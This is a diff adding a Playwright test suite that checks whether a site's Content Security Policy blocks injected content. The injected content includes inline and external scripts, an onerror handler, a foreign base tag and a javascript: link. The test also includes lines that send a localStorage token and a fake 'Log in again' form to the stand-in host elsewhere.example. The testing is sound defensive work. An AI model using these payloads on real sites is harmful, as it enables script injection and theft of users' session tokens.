@@ -1,0 +1,111 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from './test.ts';
+
+const elsewhere = 'http://elsewhere.example';
+
+/** What someone would smuggle into a page: each notes that it ran, or changes what is seen. */
+const inHead = `
+<base href="${elsewhere}/">
+<script>window.inline = true</script>
+<script src="${elsewhere}/script.js"></script>
+<link rel="stylesheet" href="${elsewhere}/style.css">
+<style>html { outline-style: dashed }</style>`;
+const inBody = `
+<img src="data:," alt="" onerror="window.handler = true">
+<iframe src="${elsewhere}/frame"></iframe>
+<object data="${elsewhere}/object"></object>`;
+
+/** Puts it into the page on its way here, as a hole in the server would; the policy can be left out, to see that it is what helps. */
+async function smuggle(page: Page, path: string, policy: 'kept' | 'left out') {
+  const reached: string[] = [];
+  await page.route(`${elsewhere}/**`, (route) => {
+    reached.push(new URL(route.request().url()).pathname);
+    const isStyle = route.request().url().endsWith('.css');
+    return route.fulfill({
+      contentType: isStyle ? 'text/css' : 'text/javascript',
+      body: isStyle ? 'html { outline-color: red }' : 'window.external = true',
+    });
+  });
+  await page.route(path, async (route) => {
+    const headers = { ...route.request().headers(), 'accept-encoding': 'identity' };
+    const response = await route.fetch({ headers });
+    const { 'content-security-policy': given = '', ...others } = response.headers();
+    expect(given).toContain('script-src');
+    await route.fulfill({
+      headers: policy === 'kept' ? response.headers() : others,
+      body: (await response.text()).replace('<head>', `<head>${inHead}`).replace('</body>', `${inBody}</body>`),
+    });
+  });
+  const violated: string[] = [];
+  await page.exposeFunction('tell', (violation: string) => violated.push(violation));
+  await page.addInitScript(() => {
+    const { tell } = window as unknown as { tell: (violation: string) => void };
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      tell(`${effectiveDirective} ${blockedURI.replace(/^(https?:\/\/[^/]+).*/, '$1')}`),
+    );
+  });
+  await page.goto(path);
+  return { reached, violated };
+}
+
+const ran = (page: Page) =>
+  page.evaluate(() => ({
+    ...Object.fromEntries(['inline', 'handler', 'external', 'link'].map((name) => [name, name in window])),
+    style: getComputedStyle(document.documentElement).outlineStyle === 'dashed',
+    base: document.baseURI.startsWith('http://elsewhere.example'),
+  }));
+const nothing = { inline: false, handler: false, external: false, link: false, style: false, base: false };
+
+test.describe('what is smuggled into a page', () => {
+  // The browser says what it refuses, and React that the page is not the one it made.
+  test.use({ allowedConsole: /./ });
+
+  for (const path of ['/about', '/account']) {
+    test(`neither runs nor reaches out: ${path}`, async ({ memberPage: page }) => {
+      const { reached, violated } = await smuggle(page, path, 'kept');
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      await expect
+        .poll(() => violated)
+        .toEqual(
+          expect.arrayContaining([
+            `base-uri ${elsewhere}`,
+            'script-src-elem inline',
+            'script-src-attr inline',
+            `script-src-elem ${elsewhere}`,
+            `style-src-elem ${elsewhere}`,
+            'style-src-elem inline',
+            `frame-src ${elsewhere}`,
+            `object-src ${elsewhere}`,
+          ]),
+        );
+
+      // Once there is a page, a script that got in some other way could still try to add to it.
+      await page.evaluate((address) => {
+        const link = Object.assign(document.createElement('a'), {
+          href: 'javascript:window.link = true',
+          textContent: 'Free',
+        });
+        const form = Object.assign(document.createElement('form'), { action: `${address}/steal`, method: 'post' });
+        form.append(Object.assign(document.createElement('button'), { textContent: 'Log in again' }));
+        document.body.prepend(link, form);
+        new Image().src = `${address}/token.png?${localStorage.getItem('token')}`;
+        fetch(`${address}/token?${localStorage.getItem('token')}`).catch(() => {});
+      }, elsewhere);
+      await page.getByRole('link', { name: 'Free' }).click();
+      await expect
+        .poll(() => violated)
+        .toEqual(expect.arrayContaining([`img-src ${elsewhere}`, `connect-src ${elsewhere}`]));
+      expect(await ran(page)).toEqual(nothing);
+      await page.getByRole('button', { name: 'Log in again' }).click();
+      await expect.poll(() => violated).toContain(`form-action ${elsewhere}`);
+      expect(reached).toEqual([]);
+      expect(new URL(page.url()).pathname).toBe(path);
+    });
+  }
+
+  test('would do both without the policy', async ({ page }) => {
+    const { reached } = await smuggle(page, '/about', 'left out');
+    await expect.poll(() => ran(page)).toMatchObject({ inline: true, handler: true, external: true });
+    expect(reached).toEqual(expect.arrayContaining(['/script.js', '/style.css']));
+  });
+});
